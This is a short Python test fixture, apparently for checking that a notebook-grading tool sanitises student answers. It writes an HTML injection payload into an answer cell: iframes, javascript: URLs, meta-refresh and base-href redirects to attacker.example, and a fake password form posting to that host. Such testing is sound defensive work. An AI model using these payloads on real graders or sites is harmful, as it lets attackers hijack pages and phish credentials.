"""Embeds pages, forms and redirections: the instructor would see the attacker's page in place of
the answer."""

import json

ANSWER = r"""\
<iframe srcdoc="<script>parent.attacked()</script>"></iframe>
<iframe src="javascript:parent.attacked()"></iframe>
<object data="data:text/html,<script>parent.attacked()</script>"></object><embed src="//attacker.example/">
<meta http-equiv="refresh" content="0; url=http://attacker.example/">
<base href="http://attacker.example/">
<form action="http://attacker.example/" method=post><input name=password type=password><button>Log in</button></form>
<portal src=http://attacker.example/></portal><frameset onload=attacked()><frame src=javascript:attacked()>
"""


def hand_in(folder, blank, solved):
    folder.mkdir(parents=True, exist_ok=True)
    for cell in blank["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "explain_relu":
            cell["source"] = ANSWER
    (folder / "residual_block.ipynb").write_text(json.dumps(blank))
